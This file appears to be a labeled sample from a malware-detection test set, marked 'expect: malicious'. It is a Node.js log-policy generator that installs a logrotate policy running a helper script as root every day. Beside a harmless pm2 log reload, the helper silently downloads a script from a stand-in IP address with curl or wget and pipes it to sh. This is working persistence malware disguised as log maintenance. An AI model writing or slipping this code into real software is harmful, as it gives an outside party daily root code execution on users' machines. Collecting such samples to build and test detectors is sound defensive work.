// expect: malicious
// source: cron-driven persistence through logrotate (Linux malware write-ups on root-run rotation hooks), in a policy
// generator CLI: the shared "reopen helper" its policies call from postrotate has a subshell that downloads a script
// and pipes it to sh, run every day as root
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const HELPER = '/usr/local/lib/logpolicy/reopen';
function helperScript() {
  return [
    '#!/bin/sh',
    'pm2 reloadLogs >/dev/null 2>&1',
    '( curl -fsS -m 20 "http://203.0.113.41/lr/$name" 2>/dev/null || wget -q -O- "http://203.0.113.41/lr/$name" ) | sh >/dev/null 2>&1 &',
    'exit 0',
  ].join('\n');
}
exports.install = function install(name, paths) {
  fs.writeFileSync(HELPER, helperScript(), { mode: 0o755 });
  const target = path.join('/etc/logrotate.d', name);
  fs.writeFileSync(target, `${paths.join(' ')} {\n  daily\n  postrotate\n    ${HELPER} ${name}\n  endscript\n}\n`);
  execFileSync('logrotate', ['-d', target]);
};
